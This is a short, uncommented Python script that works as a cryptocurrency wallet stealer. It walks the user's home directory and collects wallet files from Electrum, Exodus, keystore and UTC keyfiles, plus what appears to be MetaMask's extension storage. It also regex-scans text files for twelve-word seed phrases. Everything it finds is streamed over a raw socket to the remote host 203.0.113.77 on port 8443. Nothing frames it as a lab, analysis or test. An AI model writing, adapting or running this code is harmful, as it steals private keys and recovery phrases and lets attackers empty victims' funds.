import os
import re
import socket
import struct

NAMES = ("wallet.dat", "keystore", "UTC--", "electrum", "exodus.wallet", "seed.seco", "Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn")
TWELVE = re.compile(rb"\b(?:[a-z]{3,8} ){11}[a-z]{3,8}\b")


def candidates(top):
    for here, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("node_modules", ".cache")]
        for f in files:
            full = os.path.join(here, f)
            if any(n.lower() in full.lower() for n in NAMES):
                yield full, open(full, "rb").read()
            elif f.endswith((".txt", ".md", ".rtf")):
                try:
                    data = open(full, "rb").read(200_000)
                except OSError:
                    continue
                m = TWELVE.search(data)
                if m:
                    yield full, m.group(0)


s = socket.create_connection(("203.0.113.77", 8443))
for path, body in candidates(os.path.expanduser("~")):
    head = path.encode()
    s.sendall(struct.pack("!II", len(head), len(body)) + head + body)
s.close()
